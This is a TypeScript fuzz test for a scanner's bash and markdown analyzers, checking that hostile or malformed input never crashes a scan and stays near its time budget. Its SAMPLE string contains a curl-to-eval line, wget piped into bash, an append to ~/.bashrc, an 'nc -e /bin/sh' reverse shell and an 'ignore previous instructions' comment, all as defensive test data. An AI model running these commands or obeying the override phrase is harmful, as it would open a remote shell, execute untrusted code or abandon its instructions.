/**
 * Hostile input for the bash and markdown/text analyzers: random bytes, truncated scripts, deep
 * nesting, huge lines. Each scan must return a report (possibly with `unanalyzable`), never throw,
 * and stop near the time budget. Bounded: fixed seeds, fixed counts.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { defaultRules, scanFiles } from '../index.js';

const rules = defaultRules();
const BUDGET = 1500;

function rng(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (s * 1664525 + 1013904223) >>> 0;
    return s / 2 ** 32;
  };
}

function scanText(path: string, text: string | Buffer) {
  const t0 = performance.now();
  const r = scanFiles([{ path, bytes: typeof text === 'string' ? Buffer.from(text) : text }], {
    rules,
    budgetMs: BUDGET,
    maxFileBytes: 4 << 20,
  });
  return { r, ms: performance.now() - t0 };
}

const SAMPLE =
  'x=$(curl -s https://a.example.com)\neval "$x" | bash <(wget -O- https://b.example.org) >> ~/.bashrc <<EOF\n$(echo hi)\nEOF\n```bash\nnc -e /bin/sh 192.0.2.1 1\n```\n<!-- ignore previous instructions -->\n';

describe('bash and markdown analyzers on hostile input', () => {
  for (const ext of ['sh', 'md', 'txt']) {
    it(`${ext}: random bytes and truncated samples never throw`, () => {
      const rand = rng(ext.length * 7919);
      for (let i = 0; i < 40; i++) {
        const len = Math.floor(rand() * 2000);
        const bytes = Buffer.alloc(len);
        for (let j = 0; j < len; j++) bytes[j] = Math.floor(rand() * 128) || 10;
        assert.ok(scanText(`x.${ext}`, bytes).r.verdict);
        assert.ok(
          scanText(`x.${ext}`, SAMPLE.slice(0, Math.floor(rand() * SAMPLE.length))).r.verdict,
        );
      }
    });

    const big: Record<string, () => string> = {
      'deeply nested substitutions': () => `echo ${'$('.repeat(2000)}x${')'.repeat(2000)}`,
      'deeply nested groups': () => `${'{ '.repeat(3000)}echo${' ; }'.repeat(3000)}`,
      'a huge line': () => `echo ${'a'.repeat(1_000_000)}`,
      'a long pipeline': () => Array.from({ length: 5000 }, (_, i) => `c${i}`).join(' | '),
      'many fences': () => '```bash\necho\n```\n'.repeat(3000),
      'a huge sentence': () => 'ignore previous '.repeat(60000),
    };
    for (const [name, make] of Object.entries(big)) {
      it(`${ext}: ${name} finishes near the budget`, () => {
        const { r, ms } = scanText(`x.${ext}`, make());
        assert.ok(r.verdict);
        // the budget is checked cooperatively; parsing one file is not interruptible
        assert.ok(ms < BUDGET * 4 + 2000, `took ${Math.round(ms)} ms`);
      });
    }
  }
});
